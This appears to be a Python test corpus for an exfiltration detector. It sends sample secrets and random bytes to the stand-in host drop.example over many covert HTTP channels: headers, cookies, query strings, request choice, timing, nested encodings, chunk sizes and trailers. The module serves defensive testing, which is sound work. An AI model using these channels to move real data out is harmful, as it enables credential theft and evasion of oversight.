"""The exfiltration corpus: each item moves 1,100 bytes or more in one way.

An item must raise a signal, except those with `closed`: they use channels that Sandbar closes, so what arrives at the
server must be the same whatever was to be said, and a sample of it is enough. `documented` items use what the shape
detectors are documented not to see. They count like the others.
"""

import collections
import difflib
import string
import time

from samples import ENCODINGS, SECRETS, TEXT_ENCODINGS, WORDS, Samples
from wire import Wire

SIZE = 1_100
BROWSER = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36")
DROP = "drop.example"


class Item:
    def __init__(self, name, run, closed=None, documented=False, slow=False, held_back=False):
        self.name, self.run, self.closed = name, run, closed
        self.documented, self.slow, self.held_back = documented, slow, held_back
        self.host = f"{name}.{DROP}"


def pieces(data, size):
    return [data[at : at + size] for at in range(0, len(data), size)]


def in_heads(place, encoding, size):
    """Sends random bytes in one place of the head, `size` of them in each request."""
    encode = TEXT_ENCODINGS[encoding]

    def run(wire, samples):
        for piece in pieces(samples.bytes(SIZE), size):
            text, path, fields = encode(piece), "/", [BROWSER, ("Accept", "*/*")]
            match place:
                case "field":
                    fields.append(("X-Data", text))
                case "usual-field":
                    fields.append(("Accept-Language", text))
                case "cookie":
                    fields.append(("Cookie", f"theme=dark; id={text}"))
                case "path":
                    path = f"/files/{text}"
                case "query":
                    path = f"/search?lang=en&q={text}"
                case "query-name":
                    path = f"/search?{text}"
                case "user-agent":
                    fields[0] = ("User-Agent", "agent/" + text)
                case "field-name":
                    fields += [("X-" + part, "1") for part in pieces(text.replace("%", "-"), 48)]
            wire.send("GET", path, fields)

    return run


def small_fields(count, size):
    def run(wire, samples):
        for piece in pieces(samples.bytes(SIZE), count * size):
            fields = [(f"X-F{at}", part.hex()) for at, part in enumerate(pieces(piece, size))]
            wire.send("GET", "/", [BROWSER, *fields])

    return run


def digits(data, base):
    """The bytes as digits of another base, the fewest that hold them."""
    number, out = int.from_bytes(data, "big"), []
    while number:
        number, digit = divmod(number, base)
        out.append(digit)
    return out


def choices(make):
    """One of several known requests for each digit of the secret."""

    def run(wire, samples):
        requests = make()
        for digit in digits(samples.bytes(SIZE), len(requests)):
            method, path, fields = requests[digit]
            wire.send(method, path, fields)

    return run


def methods():
    names = ["GET", "HEAD", "OPTIONS", "DELETE", "PUT", "POST", "PATCH", "PROPFIND"]
    return [(name, "/", [BROWSER]) for name in names]


def pages(count):
    return lambda: [("GET", f"/page/{at}.html", [BROWSER]) for at in range(count)]


def agents():
    return [("GET", "/", [("User-Agent", f"Mozilla/5.0 (rv:{at}.0) Firefox/{at}.0")]) for at in range(64)]


def one_byte_each(wire, samples):
    for byte in samples.bytes(SIZE):
        wire.send("GET", f"/poll?b={byte}", [BROWSER])


def one_byte_a_second(wire, samples):
    for byte in samples.bytes(SIZE):
        wire.send("GET", f"/poll?b={byte:02x}", [BROWSER])
        wire.step(1)


def four_bytes_a_minute(wire, samples):
    for piece in pieces(samples.bytes(SIZE), 4):
        wire.send("GET", f"/poll?b={piece.hex()}", [BROWSER])
        wire.step(60)


def sequence(wire, samples):
    for at, piece in enumerate(pieces(samples.bytes(SIZE), 6)):
        wire.send("GET", f"/v1/items/{at}?c={TEXT_ENCODINGS['base64'](piece)}", [BROWSER])


def split_fields(wire, samples):
    for piece in pieces(samples.bytes(SIZE), 90):
        parts = pieces(TEXT_ENCODINGS["base64"](piece), 40)
        wire.send("GET", "/", [BROWSER, *((f"X-Part-{at}", part) for at, part in enumerate(parts))])


def as_words(send, count):
    """The secret in words of a list that both sides know, `count` of them in each request."""

    def run(wire, samples):
        words = [WORDS[digit] for digit in digits(samples.bytes(SIZE), len(WORDS))]
        for piece in pieces(words, count):
            send(wire, piece)

    return run


def in_body(kind, *encodings, field=None, chunk=None):
    """Sends a file of settings with a secret in it; `encodings` are applied from left to right."""

    def run(wire, samples):
        data = samples.settings(kind).encode()
        for encoding in encodings:
            data = ENCODINGS[encoding](data)
        fields = [BROWSER, ("Content-Type", "application/octet-stream")]
        if field:
            fields.append(field)
        if chunk:
            raw = b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in pieces(data, chunk)) + b"0\r\n\r\n"
            wire.send("POST", "/upload", [*fields, ("Transfer-Encoding", "chunked")], data, raw)
        else:
            wire.send("POST", "/upload", fields, data)

    return run


def multipart(kind, encoding="raw"):
    def run(wire, samples):
        data = ENCODINGS[encoding](samples.settings(kind).encode())
        body = b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\n' + data + b"\r\n--b--\r\n"
        wire.send("POST", "/upload", [BROWSER, ("Content-Type", "multipart/form-data; boundary=b")], body)

    return run


def secret_in(place, kind, encoding="raw"):
    """Sends the secret itself outside the body."""

    def run(wire, samples):
        value = samples.secret(kind).split("=", 1)[-1].strip()
        value = value if encoding == "raw" else ENCODINGS[encoding](value.encode()).decode().replace("\n", "")
        match place:
            case "field":
                wire.send("GET", "/", [BROWSER, ("X-Note", value)])
            case "cookie":
                wire.send("GET", "/", [BROWSER, ("Cookie", "k=" + value)])
            case "query":
                wire.send("GET", "/?k=" + value, [BROWSER])
            case "path":
                wire.send("GET", "/k/" + value, [BROWSER])

    return run


def canary(encoding=None, size=None):
    def run(wire, samples):
        value = wire.canary.encode()
        value = ENCODINGS[encoding](value) if encoding else value
        for piece in pieces(value, size or len(value)):
            wire.send("POST", "/notes", [BROWSER], b"note: " + piece + b"\n" + samples.prose(1_200).encode())

    return run


# Channels that are closed. Each sends requests that differ in one way only; `closed` looks at what arrived.

def same_heads(arrived):
    """Everything arrived alike, or nothing did."""
    return len({(one.method, one.path, tuple(one.fields)) for one in arrived}) <= 1


def order(wire, samples):
    fields = [(f"X-{name}", "1") for name in string.ascii_uppercase[:12]]
    for _ in range(40):
        samples.random.shuffle(fields)
        wire.send("GET", "/", [BROWSER, *fields])


def repeated_order(wire, samples):
    for _ in range(40):
        fields = [("Accept", "text/html"), ("Accept-Language", "en"), ("Referer", "https://web.example/"), BROWSER]
        samples.random.shuffle(fields)
        wire.send("GET", "/", fields)


def case(wire, samples):
    for _ in range(40):
        name = "".join(samples.random.choice((one.upper(), one.lower())) for one in "x-request-source-of-the-client")
        wire.send("GET", "/", [BROWSER, (name, "1")])


def white_space(wire, samples):
    for _ in range(40):
        blank = "".join(samples.random.choice(" \t") for _ in range(24))
        wire.send("GET", "/", [BROWSER, ("X-Kind", blank + "1" + blank)])


def trailers(wire, samples):
    for piece in pieces(samples.bytes(SIZE), 220):
        raw = b"2\r\nok\r\n0\r\nX-Sum: " + piece.hex().encode() + b"\r\n\r\n"
        wire.send("POST", "/", [BROWSER, ("Transfer-Encoding", "chunked"), ("Trailer", "X-Sum")], b"ok", raw)


def unannounced_trailers(wire, samples):
    for piece in pieces(samples.bytes(SIZE), 220):
        raw = b"2\r\nok\r\n0\r\nX-Sum: " + piece.hex().encode() + b"\r\n\r\n"
        wire.send("POST", "/", [BROWSER, ("Transfer-Encoding", "chunked")], b"ok", raw)


def chunk_extensions(wire, samples):
    for piece in pieces(samples.bytes(SIZE), 220):
        raw = b"2;x=" + piece.hex().encode() + b"\r\nok\r\n0\r\n\r\n"
        wire.send("POST", "/", [BROWSER, ("Transfer-Encoding", "chunked")], b"ok", raw)


def chunk_sizes(wire, samples):
    """Sends a nibble as the size of a chunk; the sizes are kept to compare them with those that arrive."""
    wire.sizes = []
    for piece in pieces(samples.bytes(SIZE), 275):
        sizes = [1 + nibble for byte in piece for nibble in (byte >> 4, byte & 15)]
        raw = b"".join(b"%x\r\n%s\r\n" % (size, b"x" * size) for size in sizes) + b"0\r\n\r\n"
        wire.sizes.append(sizes)
        wire.send("POST", "/", [BROWSER, ("Transfer-Encoding", "chunked")], b"x" * sum(sizes), raw)


def paced_chunk_sizes(wire, samples):
    """The same with each chunk in a packet of its own."""
    wire.sizes = []
    for piece in pieces(samples.bytes(SIZE // 4), 55):
        sizes = [1 + nibble for byte in piece for nibble in (byte >> 4, byte & 15)]
        raw = [b"%x\r\n%s\r\n" % (size, b"x" * size) for size in sizes] + [b"0\r\n\r\n"]
        wire.sizes.append(sizes)
        wire.send("POST", "/", [BROWSER, ("Transfer-Encoding", "chunked")], b"x" * sum(sizes), raw)


def no_chunk_sizes(arrived, wire):
    """Of the sizes that were sent, no more arrived in their order than chance explains."""
    kept = 0
    for one, sent in zip(arrived, wire.sizes):
        blocks = difflib.SequenceMatcher(None, sent, one.chunks, autojunk=False).get_matching_blocks()
        kept += sum(block.size for block in blocks if block.size >= 4)
    return kept * 20 <= sum(map(len, wire.sizes))


def items():
    made = []

    def add(name, run, **more):
        made.append(Item(name, run, **more))

    for place in ("field", "cookie", "path", "query"):
        for encoding in TEXT_ENCODINGS:
            for size in (550, 64, 16):
                add(f"{place}-{encoding}-{size}", in_heads(place, encoding, size))
    for place in ("usual-field", "query-name", "user-agent", "field-name"):
        for encoding in ("hex", "base64", "base32"):
            size = 128 if place != "field-name" else 96
            add(f"{place}-{encoding}-{size}", in_heads(place, encoding, size))
        add(f"{place}-hex-16", in_heads(place, "hex", 16))
    add("many-small-fields", small_fields(60, 6))
    add("some-small-fields", small_fields(20, 6))
    add("split-over-fields", split_fields)
    add("one-byte-a-request", one_byte_each)
    add("one-byte-a-second", one_byte_a_second, slow=True)
    add("four-bytes-a-minute", four_bytes_a_minute, slow=True)
    add("method-choice", choices(methods))
    add("page-choice-16", choices(pages(16)))
    add("page-choice-256", choices(pages(256)))
    add("user-agent-choice", choices(agents))
    add("sequence", sequence)
    add("words-in-path", as_words(lambda wire, words: wire.send("GET", "/wiki/" + "-".join(words), [BROWSER]), 12))
    add("words-in-query", as_words(lambda wire, words: wire.send("GET", "/search?q=" + "+".join(words), [BROWSER]), 30))
    add("words-in-field", as_words(lambda wire, words: wire.send("GET", "/", [
        BROWSER, ("X-Comment", " ".join(words))]), 20))
    add("credential-random", lambda wire, samples: wire.send("GET", "/", [
        BROWSER, ("Authorization", "Bearer " + samples.bytes(SIZE).hex())]), documented=True)
    add("credentials-many", lambda wire, samples: [wire.send("GET", "/", [
        BROWSER, ("Authorization", "Bearer " + piece.hex())]) for piece in pieces(samples.bytes(SIZE), 110)])
    add("identifiers", lambda wire, samples: [wire.send("GET", "/", [
        BROWSER, ("X-Request-Id", piece.hex())]) for piece in pieces(samples.bytes(SIZE), 16)], documented=True)
    add("signatures", lambda wire, samples: [wire.send("GET", f"/?sig={piece.hex()}", [BROWSER])
                                             for piece in pieces(samples.bytes(SIZE), 64)], documented=True)

    for kind in SECRETS:
        add(f"body-{kind}", in_body(kind))
    for at, encoding in enumerate(name for name in ENCODINGS if name != "raw"):
        for kind in (SECRETS[at % len(SECRETS)], SECRETS[(at + 5) % len(SECRETS)], SECRETS[(at + 9) % len(SECRETS)]):
            add(f"body-{kind}-{encoding}", in_body(kind, encoding))
    nested = [("base64", "base64"), ("gzip", "base64"), ("base64", "gzip"), ("hex", "base64"), ("base64", "hex"),
              ("base64", "json"), ("json", "base64"), ("percent", "base64"), ("base64", "percent"), ("gzip", "hex"),
              ("json-escapes", "gzip"), ("html", "json"), ("deflate", "base64url"), ("base64-lines", "json"),
              ("base32", "base64"), ("gzip", "gzip"), ("hex", "hex"), ("json", "json")]
    for at, pair in enumerate(nested):
        kind = SECRETS[at % len(SECRETS)]
        add(f"body-{kind}-{'-in-'.join(pair)}", in_body(kind, *pair))
    for kind in ("aws", "github", "pem"):
        add(f"body-{kind}-gzip-declared", in_body(kind, "gzip", field=("Content-Encoding", "gzip")))
        add(f"body-{kind}-multipart", multipart(kind))
        add(f"body-{kind}-gzip-multipart", multipart(kind, "gzip"))
        add(f"body-{kind}-chunks-of-1", in_body(kind, chunk=1))
        add(f"body-{kind}-base64-chunks-of-7", in_body(kind, "base64", chunk=7))
    for place in ("field", "cookie", "query", "path"):
        for kind, encoding in (("github", "raw"), ("openai", "raw"), ("jwt", "raw"), ("github", "base64url"),
                               ("stripe", "hex")):
            add(f"{place}-{kind}-{encoding}", secret_in(place, kind, encoding))
    add("canary-raw", canary())
    add("canary-base64", canary("base64"))
    add("canary-gzip", canary("gzip"))
    add("canary-split-10", canary(None, 10))

    alike = lambda arrived, _wire: same_heads(arrived)
    add("closed-order", order, closed=alike)
    add("closed-order-usual", repeated_order, closed=alike)
    add("closed-case", case, closed=alike)
    add("closed-white-space", white_space, closed=alike)
    none = lambda arrived, _wire: not any(one.trailers for one in arrived)
    add("closed-trailers", trailers, closed=none)
    add("closed-trailers-unannounced", unannounced_trailers, closed=none)
    add("closed-chunk-extensions", chunk_extensions, closed=alike)
    add("closed-chunk-sizes", chunk_sizes, closed=no_chunk_sizes)
    add("closed-chunk-sizes-paced", paced_chunk_sizes, closed=no_chunk_sizes)
    return made


def run_item(item, port, canary_value, step, until):
    """Runs one item; returns its connection, with how many requests were sent and how they were answered."""
    wire = Wire(port, item.host)
    wire.canary, wire.step = canary_value, step
    wire.sent, wire.statuses, wire.bodies = 0, collections.Counter(), []
    send = wire.send

    def bounded(method, path, fields, body=b"", raw=None):
        if time.monotonic() > until:
            raise TimeoutError("the run takes too long")
        wire.sent += 1
        status = send(method, path, fields, body, raw)
        wire.statuses[status] += 1
        if status == 200:
            wire.bodies.append(body)
        return status

    wire.send = bounded
    try:
        item.run(wire, Samples(item.name))
    finally:
        wire.close()
    return wire
